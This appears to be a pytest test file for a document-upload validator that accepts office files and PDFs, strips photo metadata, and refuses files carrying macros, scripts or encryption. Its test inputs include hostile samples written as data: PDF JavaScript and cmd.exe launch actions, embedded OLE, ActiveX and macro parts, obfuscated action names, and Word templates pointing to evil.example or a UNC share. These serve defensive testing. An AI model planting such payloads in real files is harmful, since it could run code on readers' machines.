"""What a document is, is told by its content; what does anything of its own, or cannot be looked into, is not handed out."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hotline.domain.knowledge_files import (
    DOCX,
    JPEG,
    ODS,
    ODT,
    PDF,
    XLSX,
    FileFault,
    KnowledgeFileRefusedError,
)
from hotline.service import documents
from hotline.service.documents import taken
from tests.documents import (
    a_docx,
    a_packed,
    a_pdf,
    a_pdf_of,
    a_sheet,
    a_word_of,
    an_open_document,
    packed_objects,
)
from tests.media import a_photo

F = FileFault
PAGES = b"1 0 obj << /Type /Catalog >> endobj"
ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
MACRO_TYPE = "ms-word.document.macroEnabled.main+xml"
TEMPLATE = "<a><Relationship Type='x/attachedTemplate' Target='{}' TargetMode='External'/></a>"


def fault_of(body: bytes) -> FileFault:
    with pytest.raises(KnowledgeFileRefusedError) as refused:
        taken(body)
    assert refused.value.code == f"knowledge_file.{refused.value.fault}"
    return refused.value.fault


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (a_pdf(), PDF),
        (a_pdf_of(PAGES, packed_objects(b"<< /Type /Page >>")), PDF),
        (a_pdf_of(PAGES, b"3 0 obj << /Title (/JavaScripts) /Launcher 1 /J#61vaScript#20 2 >> endobj"), PDF),
        (a_pdf_of(PAGES, b"3 0 obj << /Length 20 >> stream\n1 0 0 1 72 720 cm\nendstream endobj"), PDF),
        (a_docx(), DOCX),
        (a_sheet(), XLSX),
        (a_word_of({"word/_rels/settings.xml.rels": TEMPLATE.format("file:///C:/Users/a/公文.dotx")}), DOCX),
        (a_word_of({"word/embeddings/Microsoft_Excel_Sheet.xlsx": "chart"}), DOCX),
        (an_open_document(), ODT),
        (an_open_document("spreadsheet"), ODS),
    ],
)
def test_the_documents_that_offices_hand_out_are_taken_as_they_are(body: bytes, kind: str) -> None:
    assert taken(body) == (kind, body)


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_pictures_are_drawn_anew_without_what_they_hide(kind: str) -> None:
    found, kept = taken(a_photo(kind=kind, gps=(35.05, 118.34)))
    assert (found, kept[:3], b"HUAWEI" in kept) == (JPEG, b"\xff\xd8\xff", False)


@pytest.mark.parametrize(
    ("body", "fault"),
    [
        (b"", F.EMPTY),
        (b"MZ\x90\x00 program", F.UNKNOWN_KIND),
        (b"<html><script>alert(1)</script>", F.UNKNOWN_KIND),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, F.OLD_KIND),
        (a_packed({"a.exe": "MZ"}), F.UNKNOWN_KIND),
        (a_packed({"mimetype": "application/vnd.oasis.opendocument.graphics"}), F.UNKNOWN_KIND),
        (a_word_of({}, type_="openxmlformats-officedocument.presentationml.slideshow"), F.UNKNOWN_KIND),
        (a_docx()[:-30], F.DAMAGED),
        (a_pdf()[:200], F.DAMAGED),
        (a_packed({f"p{n}": "" for n in range(5_001)}), F.DAMAGED),
        (a_word_of({"word/_rels/a.xml.rels": b" " * 3_000_000}), F.DAMAGED),
        (a_word_of({"word/_rels/a.xml.rels": "<a>"}), F.DAMAGED),
        (a_word_of({"word/_rels/a.xml.rels": "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}), F.DAMAGED),
        (a_word_of({"x" * 501: ""}), F.DAMAGED),
        (a_word_of({"a.rels": "<a/>", "b.rels": "<a/>"}).replace(b"b.rels", b"a.rels"), F.DAMAGED),
        (a_packed({"[Content_Types].xml": "<?xml version='1.0' encoding='x'?><a/>"}), F.DAMAGED),
    ],
)
def test_what_is_no_sound_document_is_not_taken(body: bytes, fault: FileFault) -> None:
    assert fault_of(body) is fault


@pytest.mark.parametrize(
    "body",
    [
        a_word_of({}, type_=MACRO_TYPE),
        a_word_of({"word/vbaProject.bin": "x"}),
        a_word_of({"WORD\\VBAPROJECT.BIN": "x"}),
        a_word_of({"xl/JDEData.bin": "x"}),
        a_word_of({"xl/macrosheets/sheet1.xml": "x"}),
        a_word_of({"word/activeX/activeX1.bin": "x"}),
        a_word_of({"word/embeddings/oleObject1.bin": "x"}),
        a_word_of({"word/embeddings/setup.exe": "x"}),
        a_word_of({"word/_rels/settings.xml.rels": TEMPLATE.format("http://evil.example/a.dotm")}),
        a_word_of({"word/_rels/settings.xml.rels": TEMPLATE.format(r"\\10.0.0.9\a.dotm")}),
        a_word_of({"word/_rels/a.rels": TEMPLATE.format("&#104;ttp://evil.example/a").encode("utf-16")}),
        an_open_document(Basic__Standard__Module1_xml="x"),
        an_open_document(Scripts__python__a_py="x"),
    ],
)
def test_office_files_with_macros_programs_or_a_foreign_template_are_not_taken(body: bytes) -> None:
    assert fault_of(body) is F.MACROS


@pytest.mark.parametrize(
    "body",
    [
        a_pdf_of(PAGES, b"2 0 obj " + ACTION + b" endobj"),
        a_pdf_of(PAGES, b"2 0 obj << /S /J#61vaScript /JS (x) >> endobj"),
        a_pdf_of(PAGES, b"2 0 obj << /S /Launch /F (cmd.exe) >> endobj"),
        a_pdf_of(PAGES, b"2 0 obj << /Names << /EmbeddedFiles 3 0 R >> >> endobj"),
        a_pdf_of(PAGES, b"2 0 obj << /AcroForm << /XFA 3 0 R >> >> endobj"),
        a_pdf_of(PAGES, packed_objects(ACTION)),
        a_pdf_of(PAGES, packed_objects(b"<< /S /Laun#63h >>")),
        a_pdf_of(PAGES, packed_objects(ACTION).replace(b"stream\r\n", b"stream \n", 1)),
        a_pdf_of(PAGES, packed_objects(ACTION).replace(b"/Type /ObjStm", b"/Type 9 0 R")),
    ],
)
def test_a_pdf_that_runs_or_launches_anything_is_not_taken(body: bytes) -> None:
    assert fault_of(body) is F.SCRIPTS


@pytest.mark.parametrize(
    "body",
    [
        a_pdf_of(PAGES, b"trailer << /Encrypt 4 0 R >>"),
        a_pdf_of(PAGES, b"stream\n" * 100_002),
        a_pdf_of(PAGES, packed_objects(ACTION, filter_=b"/ASCIIHexDecode")),
        a_pdf_of(PAGES, packed_objects(ACTION, filter_=b"/ASCIIHexDecode").replace(b"ObjStm", b"Obj#53tm")),
    ],
)
def test_a_pdf_that_cannot_be_looked_into_is_not_taken(body: bytes) -> None:
    assert fault_of(body) is F.LOCKED


def test_an_office_file_with_a_password_on_its_parts_is_not_taken() -> None:
    body = bytearray(a_word_of({}))
    at = body.index(b"PK\x01\x02")
    body[at + 8] |= 1
    assert fault_of(bytes(body)) is F.LOCKED


def test_objects_that_unpack_to_far_too_much_are_not_taken(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "_MOST_OBJECTS", 100_000)
    assert taken(a_pdf_of(PAGES, packed_objects(b" " * 90_000)))[0] == PDF
    assert fault_of(a_pdf_of(PAGES, packed_objects(b" " * 110_000))) is F.LOCKED


def test_an_action_behind_the_first_piece_of_a_large_object_stream_is_found() -> None:
    noise = bytes(range(65, 91)) * 40_000  # unpacked in several pieces
    assert fault_of(a_pdf_of(PAGES, packed_objects(noise + ACTION))) is F.SCRIPTS


def test_what_is_neither_document_nor_small_enough_for_a_picture_is_too_large(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(documents, "MOST_BYTES", 3)
    assert fault_of(b"xxxx") is F.TOO_LARGE


def outcome(body: bytes) -> str:
    try:
        return taken(body)[0]
    except KnowledgeFileRefusedError as refused:
        return refused.fault.value


@given(st.sampled_from([b"%PDF-1.7\n", b"PK\x03\x04", b"%PDF-1.7 stream\n", b""]), st.binary(max_size=300))
def test_whatever_it_is_it_is_taken_or_refused_by_name(beginning: bytes, rest: bytes) -> None:
    assert outcome(beginning + rest + b"%%EOF") in {PDF, *FileFault}
